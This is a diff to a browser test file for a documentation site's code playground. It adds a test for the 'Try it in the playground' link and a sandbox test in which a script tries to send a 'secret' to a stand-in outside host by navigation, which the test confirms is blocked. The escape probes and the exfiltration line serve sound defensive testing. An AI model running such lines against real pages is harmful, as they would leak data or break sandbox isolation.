@@ -117,6 +117,16 @@ test('a script can be stopped and started again', async ({page, site}) => {
   await expect(page.locator('iframe')).toHaveCount(0);
 });
 
+test('the link below a sample opens it here', async ({page, site}) => {
+  await site.open('en/docs/dev/');
+  const link = page.getByRole('link', {name: 'Try it in the playground'}).first();
+  const sample = new URL((await link.getAttribute('href')) ?? '', page.url()).searchParams.get(
+    'sample',
+  );
+  await link.click();
+  await expect(page.getByRole('combobox', {name: 'Sample'})).toHaveValue(sample ?? 'none');
+});
+
 test.describe('the sandbox', () => {
   const attempts: [name: string, code: string, outcome: RegExp][] = [
     ['parent', 'parent.document.title', /SecurityError|Blocked|cross-origin/i],
@@ -202,6 +212,19 @@ test.describe('the sandbox', () => {
     await start(page);
     await expect(log(page)).toContainText('image refused');
     await expect(log(page)).toContainText('style refused');
+    expect(sent).toEqual([]);
+  });
+
+  test('a frame that walks away reaches nothing and is taken down', async ({page, site}) => {
+    site.expectProblem(/./);
+    const sent: string[] = [];
+    await page.route(/outside\.example/, (route) => {
+      sent.push(route.request().url());
+      return route.abort();
+    });
+    await open(site, script('location.href = "https://outside.example/?secret";'));
+    await start(page);
+    await expect(page.getByText('Did not respond and was stopped')).toBeVisible({timeout: 15_000});
     expect(sent).toEqual([]);
   });
 
